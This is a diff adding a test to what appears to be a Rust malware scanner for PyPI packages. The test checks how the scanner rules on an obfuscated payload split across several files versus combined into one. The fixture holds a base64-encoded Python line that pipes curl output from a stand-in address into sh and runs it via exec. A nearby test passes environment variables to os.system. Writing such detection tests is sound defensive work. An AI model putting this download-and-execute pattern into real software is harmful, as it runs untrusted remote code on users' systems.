@@ -206,6 +206,17 @@ mod tests {
     }
 
     #[test]
+    fn what_only_several_files_say_together_blocks_nothing() {
+        let text = "data = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCcp'\n";
+        let code = "import base64\ndef run(x):\n    exec(base64.b64decode(x))\n";
+        let entry = "from .text import data\nfrom .code import run\nrun(data)\n";
+        let apart = [("demo/__init__.py", entry), ("demo/text.py", text), ("demo/code.py", code)];
+        assert_eq!(concluded("pypi", &apart), Conclusion::Hold);
+        let whole = format!("{text}import base64\nexec(base64.b64decode(data))\n");
+        assert_eq!(concluded("pypi", &[("demo/__init__.py", whole.as_str())]), Conclusion::Block);
+    }
+
+    #[test]
     fn modules_that_hand_on_to_one_another_for_ever_end() {
         let a =
             "from .b import g\nimport os\ndef f(x):\n    os.system(x)\n    return g(os.environ)\nf(g(1))\n";
